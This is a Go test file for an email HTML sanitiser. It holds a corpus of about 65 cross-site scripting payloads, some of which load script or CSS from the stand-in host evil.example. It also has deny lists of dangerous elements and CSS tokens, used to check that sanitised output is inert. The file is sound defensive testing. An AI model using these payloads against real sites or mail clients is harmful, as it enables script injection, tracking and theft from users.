package mimeview

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// xssCorpus holds payloads that execute script, navigate, or load
// something in some browser if they survive sanitising.
var xssCorpus = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<IMG SRC="x" ONERROR="alert(1)">`,
	`<img src=x oNeRrOr=alert&#40;1&#41;>`,
	`<body onload=alert(1)>`,
	`<div onmouseover="alert(1)">hover</div>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<img src="javascript:alert(1)">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<svg onload=alert(1)><script>alert(2)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
	`<svg><style>body{background:url("javascript:alert(1)")}</style></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<div style="width: expression(alert(1))">x</div>`,
	`<div style="width: ex/**/pression(alert(1))">x</div>`,
	`<div style="width: \65 xpression(alert(1))">x</div>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<div style="background-image:url('vbscript:msgbox(1)')">x</div>`,
	`<div style="-moz-binding:url(http://evil.example/x.xml#x)">x</div>`,
	`<div style="behavior:url(x.htc)">x</div>`,
	`<style>@import 'http://evil.example/x.css';</style>`,
	`<style>body{background:url(javascript:alert(1))}</style>`,
	`<style>p{width:expression(alert(1))}</style>`,
	`<style>p{color:red}</style><style>*{x:ex\70 ression(alert(1))}</style>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://evil.example/">`,
	`<base href="javascript:alert(1)//">`,
	`<base href="http://evil.example/">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<IFRAME SRCDOC="&lt;img src=x onerror=alert(1)&gt;">`,
	`<object data="javascript:alert(1)"></object>`,
	`<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
	`<embed src="javascript:alert(1)">`,
	`<applet code="x"></applet>`,
	`<form action="javascript:alert(1)"><input type=submit></form>`,
	`<form><button formaction="javascript:alert(1)">x</button></form>`,
	`<input onfocus=alert(1) autofocus>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`<link rel=stylesheet href="http://evil.example/x.css">`,
	`<isindex action="javascript:alert(1)" type=image>`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<a href="#" onclick="alert(1)">x</a>`,
	`<img src="http://evil.example/track.gif" srcset="http://evil.example/a.png 2x">`,
	`<div style="background-image:url(http://evil.example/bg.png)">x</div>`,
	`<style>body{background:url("https://evil.example/bg.png")}</style>`,
	`<body background="http://evil.example/bg.png">`,
	`<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`,
	`<a href="cid:nothing" onclick="x">y</a>`,
	`<img src="cid:&quot;onerror=alert(1)">`,
}

var (
	unsafeURL  = regexp.MustCompile(`^(javascript|vbscript|livescript|data|file):`)
	safeData   = regexp.MustCompile(`^data:image/(png|gif|jpeg|jpg|webp);base64,`)
	badElement = map[string]bool{"script": true, "iframe": true, "frame": true, "frameset": true, "object": true, "embed": true,
		"applet": true, "meta": true, "base": true, "link": true, "form": true, "input": true, "button": true, "svg": true,
		"math": true, "isindex": true, "textarea": true, "select": true, "noscript": true, "xmp": true, "video": true, "source": false}
	cssBad = []string{"expression(", "javascript:", "vbscript:", "behavior", "-moz-binding", "@import"}
)

// assertInert parses out as a browser would and fails on anything that can
// run script, navigate by itself or (when blockRemote) load a remote URL.
func assertInert(t *testing.T, in, out string, blockRemote bool) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	var visit func(n *html.Node)
	visit = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if badElement[strings.ToLower(n.Data)] {
				t.Errorf("%s\n-> %s\nkeeps <%s>", in, out, n.Data)
			}
			for _, a := range n.Attr {
				k := strings.ToLower(a.Key)
				v := strings.ToLower(strings.Map(func(r rune) rune {
					if r <= ' ' {
						return -1
					}
					return r
				}, a.Val))
				switch {
				case strings.HasPrefix(k, "on"), k == "srcdoc", k == "formaction", k == "action", k == "xlink:href", a.Namespace != "":
					t.Errorf("%s\n-> %s\nkeeps attribute %s", in, out, a.Key)
				case k == "style":
					checkCSS(t, in, out, a.Val, blockRemote)
				case k == "target" && v != "_blank", k == "rel" && v != "noopenernoreferrer":
					t.Errorf("%s\n-> %s\n%s=%q", in, out, k, a.Val)
				}
				if unsafeURL.MatchString(v) && !(safeData.MatchString(v) && k == "src") {
					t.Errorf("%s\n-> %s\nunsafe URL in %s=%q", in, out, a.Key, a.Val)
				}
				if blockRemote && (k == "src" || k == "srcset" || k == "background" || k == "poster") && (strings.Contains(v, "http:") || strings.Contains(v, "https:") || strings.HasPrefix(v, "//")) {
					t.Errorf("%s\n-> %s\nremote %s=%q", in, out, k, a.Val)
				}
			}
			if n.Data == "a" && hasAttr(n, "href") && !strings.HasPrefix(attr(n, "href"), "#") && (attr(n, "target") != "_blank" || attr(n, "rel") != "noopener noreferrer") {
				t.Errorf("%s\n-> %s\nlink without target/rel", in, out)
			}
			if strings.EqualFold(n.Data, "style") {
				for c := n.FirstChild; c != nil; c = c.NextSibling {
					checkCSS(t, in, out, c.Data, blockRemote)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			visit(c)
		}
	}
	visit(doc)
}

func hasAttr(n *html.Node, k string) bool {
	for _, a := range n.Attr {
		if a.Key == k {
			return true
		}
	}
	return false
}

func attr(n *html.Node, k string) string {
	for _, a := range n.Attr {
		if a.Key == k {
			return a.Val
		}
	}
	return ""
}

func checkCSS(t *testing.T, in, out, css string, blockRemote bool) {
	t.Helper()
	norm := strings.ToLower(strings.Join(strings.Fields(cssNormalize(css)), ""))
	for _, b := range cssBad {
		if strings.Contains(norm, b) {
			t.Errorf("%s\n-> %s\nCSS keeps %q", in, out, b)
		}
	}
	for _, m := range regexp.MustCompile(`url\(([^)]*)\)`).FindAllStringSubmatch(norm, -1) {
		u := strings.Trim(m[1], `"'`)
		if !(strings.HasPrefix(u, "/") && !strings.HasPrefix(u, "//") || safeData.MatchString(u) || !blockRemote && (strings.HasPrefix(u, "http") || strings.HasPrefix(u, "//"))) {
			t.Errorf("%s\n-> %s\nCSS url %q", in, out, u)
		}
	}
}

func TestSanitizeXSSCorpus(t *testing.T) {
	partID := func(cid string) (string, bool) { return "1.2", cid == "logo@app.example" }
	for _, in := range xssCorpus {
		for _, remote := range []bool{false, true} {
			got := SanitizeHTML(in, partID, SanitizeOptions{PartURL: "/api/v1/message/ABC/part/{PartID}", AllowRemote: remote})
			assertInert(t, in, got.HTML, !remote)
			if low := strings.ToLower(got.HTML); strings.Contains(low, "<script") || strings.Contains(low, "alert(1)") && !strings.Contains(low, "&lt;") && strings.Contains(low, "on") && strings.Contains(low, "=") && !strings.Contains(low, ">alert(1)<") {
				// alert(1) may survive as inert text; as an attribute it must not.
				if regexp.MustCompile(`(?i)<[^>]*alert\(1\)`).MatchString(got.HTML) {
					t.Errorf("%s\n-> %s", in, got.HTML)
				}
			}
		}
	}
}

func TestSanitizeRemoteAndCID(t *testing.T) {
	in := `<html><head><style>.a{background:url(cid:logo@app.example)} .b{background-image:url("https://cdn.example/b.png")}</style></head>
<body><img src="cid:logo@app.example" alt="logo"><img src="http://cdn.example/t.gif" alt="t">
<img src="cid:missing@x"><p style="background:url(https://cdn.example/p.png) no-repeat">p</p>
<a href="https://app.example/x">go</a><a href="#top">top</a><a href="/relative">rel</a><a href="mailto:a@b.example">m</a></body></html>`
	partID := func(cid string) (string, bool) { return "1.2", cid == "logo@app.example" }
	opts := SanitizeOptions{PartURL: "/api/v1/message/ABC/part/{PartID}"}
	got := SanitizeHTML(in, partID, opts)
	t.Log(got.HTML)
	for _, want := range []string{
		`<img src="/api/v1/message/ABC/part/1.2" alt="logo"`,
		`<img src="` + TransparentGIF + `" alt="t"`,
		`.a{background:url("/api/v1/message/ABC/part/1.2")}`,
		`.b{background-image:none}`,
		`<a href="https://app.example/x" target="_blank" rel="noopener noreferrer">go</a>`,
		`<a href="#top">top</a>`,
		`<a href="mailto:a@b.example" target="_blank" rel="noopener noreferrer">m</a>`,
	} {
		if !strings.Contains(got.HTML, want) {
			t.Errorf("blocked mode lacks %s", want)
		}
	}
	if strings.Contains(got.HTML, "cdn.example") || strings.Contains(got.HTML, "/relative") {
		t.Errorf("remote or relative URL kept: %s", got.HTML)
	}
	if strings.Join(got.Remote, " ") != "https://cdn.example/b.png http://cdn.example/t.gif https://cdn.example/p.png" {
		t.Errorf("remote %q", got.Remote)
	}
	if len(got.MissingCID) != 1 || got.MissingCID[0] != "missing@x" {
		t.Errorf("missing %q", got.MissingCID)
	}
	opts.AllowRemote = true
	got = SanitizeHTML(in, partID, opts)
	for _, want := range []string{`<img src="http://cdn.example/t.gif" alt="t"`, `url("https://cdn.example/b.png")`, `https://cdn.example/p.png`} {
		if !strings.Contains(got.HTML, want) {
			t.Errorf("remote mode lacks %s in %s", want, got.HTML)
		}
	}
	if len(got.Remote) != 3 {
		t.Errorf("remote %q", got.Remote)
	}
}

func TestSanitizeMessage(t *testing.T) {
	m := Parse(fixture(t, "alternative-inline-attachment.eml"), Limits{})
	got := m.SanitizeHTML(SanitizeOptions{PartURL: "/api/v1/message/ID1/part/{PartID}"})
	if !strings.Contains(got.HTML, `src="/api/v1/message/ID1/part/1.2"`) || len(got.MissingCID) > 0 {
		t.Errorf("%+v", got)
	}
}

// TestSanitizeInlineImages: with InlineImages a cid: image becomes a data:
// URL that survives the allow list, so a sandboxed frame shows it.
func TestSanitizeInlineImages(t *testing.T) {
	m := Parse(fixture(t, "alternative-inline-attachment.eml"), Limits{})
	got := m.SanitizeHTML(SanitizeOptions{PartURL: "/api/v1/message/ID1/part/{PartID}", InlineImages: true})
	p := m.Part("1.2")
	if p == nil {
		t.Fatal("no part 1.2")
	}
	want := `src="data:` + strings.ToLower(p.ContentType) + `;base64,`
	if !strings.Contains(got.HTML, want) || strings.Contains(got.HTML, "/part/1.2") || len(got.MissingCID) > 0 {
		t.Errorf("inline image not a data URL (%s): %s", p.ContentType, got.HTML)
	}
}
